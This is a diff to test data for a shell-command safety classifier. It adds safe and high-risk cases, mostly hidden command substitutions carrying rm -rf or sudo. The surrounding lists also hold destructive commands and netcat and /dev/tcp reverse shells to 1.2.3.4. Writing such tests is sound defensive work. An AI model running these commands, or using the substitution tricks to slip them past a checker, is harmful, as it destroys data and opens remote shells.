@@ -22,7 +22,7 @@ SAFE = [
     "file image.png", "which python3", "type ls", "env", "printenv PATH", "ps aux | grep python",
     "cat a.txt | sort | uniq -c | sort -rn | head", "jq '.dependencies' package.json", "sed -n '1,20p' x.py",
     "sed 's/a/b/' in.txt", "diff -u a.txt b.txt", "sha256sum dist/*.whl", "cd src && ls", "cd /tmp; pwd",
-    "ls 2>/dev/null", "ls nothing 2>&1 | head", "cat <<EOF\nrm -rf /\nEOF", "grep foo bar.txt # rm -rf /",
+    "ls 2>/dev/null", "ls nothing 2>&1 | head", "cat <<EOF\nrm -rf /\nEOF", "cat <<'EOF'\n$(rm -rf /)\nEOF", "grep foo bar.txt # rm -rf /",
     "for f in *.md; do wc -l \"$f\"; done", "if [ -f x ]; then cat x; fi", "test -d build && echo yes",
     "A=1 B=2 env", "ls; pwd; whoami", "true && echo ok || echo no", "sleep 1", "seq 1 10 | paste -sd+ | bc",
     "readlink -f .", "basename $(pwd)", "history | tail", "free -m", "uptime", "echo ~/.ssh/id_rsa",
@@ -76,7 +76,8 @@ HIGH = [
     "bash -c 'rm -rf /'", "sh -c \"sudo reboot\"", "bash <<EOF\nrm -rf ~\nEOF\n", "if true; then rm -rf /; fi",
     "f() { rm -rf /; }; f", "nc -e /bin/sh 1.2.3.4 80", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
     "crontab -r", "terraform destroy -auto-approve", "docker push me/img", "ls \"open $(rm -rf /)",
-    "echo a && (cd / && rm -rf *)", "{ rm -rf /; }", "exec sudo su",
+    "echo a && (cd / && rm -rf *)", "{ rm -rf /; }", "exec sudo su", "echo ${X:-$(rm -rf ~)}",
+    "cat <<EOF\n$(sudo id)\nEOF", "echo $(( $(rm -rf /) + 1 ))",
 ]
 
 # (command, what a careful reader would say, what the classifier says, why it cannot see it)
